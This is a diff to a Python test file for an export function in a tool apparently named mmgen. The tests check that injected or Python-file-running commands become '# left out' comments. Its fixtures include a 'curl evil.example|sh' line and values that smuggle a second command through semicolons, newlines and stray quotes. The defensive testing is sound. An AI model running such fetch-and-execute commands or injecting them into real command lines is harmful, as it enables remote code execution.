@@ -29,20 +29,18 @@ def node(command: str, *parents: Node) -> Node:
     return Node("", "model", "", Path("m.safetensors"), "found", command, parents)
 
 
+LEFT_OUT = "# left out, for it runs a file of Python: look at it first: mmgen train d.h5 --code"
+
+
 @pytest.mark.parametrize(
-    "command",
-    [f"{EVIL}; mmgen train", f"curl evil.example|sh; {EVIL}", f"mmgen 'train\n{EVIL}'", f"x\n{EVIL}\n",
-     f"mmgen 'x; {EVIL}"],
+    ("command", "said"),
+    [(f"{EVIL}; mmgen train", ""), (f"curl evil.example|sh; {EVIL}", ""), (f"mmgen 'train\n{EVIL}'", ""),
+     (f"x\n{EVIL}\n", ""), (f"mmgen 'x; {EVIL}", ""),
+     ("mmgen train d.h5 --code evil.py --objective evil", LEFT_OUT), ("mmgen train d.h5 --code=evil.py", LEFT_OUT)],
 )  # fmt: skip
-def test_what_is_no_command_is_a_comment_of_one_line(command: str) -> None:
+def test_what_is_no_command_or_runs_a_file_of_python_is_a_comment_of_one_line(command: str, said: str) -> None:
     (line,) = exporting._lineage_commands(node(command))
-    assert line.startswith("# left out") and line.isprintable()
-
-
-@pytest.mark.parametrize("option", ["--code evil.py", "--code=evil.py"])
-def test_a_command_that_runs_a_file_of_python_is_a_comment(option: str) -> None:
-    (line,) = exporting._lineage_commands(node(f"mmgen train d.h5 {option} --objective evil"))
-    assert line.startswith("# left out, for it runs a file of Python: look at it first: mmgen train d.h5 --code")
+    assert line.startswith(said or "# left out") and line.isprintable()
 
 
 def test_the_commands_of_a_file_run_mmgen_and_nothing_else(tmp_path: Path) -> None:
